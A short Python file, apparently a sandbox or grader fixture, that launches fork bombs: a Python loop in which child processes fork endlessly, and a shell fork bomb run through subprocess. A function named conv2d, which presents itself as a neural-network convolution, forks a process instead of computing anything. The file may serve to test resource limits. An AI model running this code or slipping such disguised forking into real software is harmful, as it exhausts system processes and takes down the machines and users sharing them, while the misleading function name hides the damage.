"""Forks without end, in Python and in the shell."""
# ruff: noqa

OUTCOME = (
    "wrong",
    "limit",
    "crash",
    "error",
)

import os
import subprocess

children = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        while True:
            try:
                os.fork()
            except OSError:
                pass
    children += 1
if children > 100:
    print("LEAK", children)
try:
    subprocess.Popen("bomb() { bomb | bomb & }; bomb", shell=True)
except OSError:
    pass


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    os.fork()
    return children
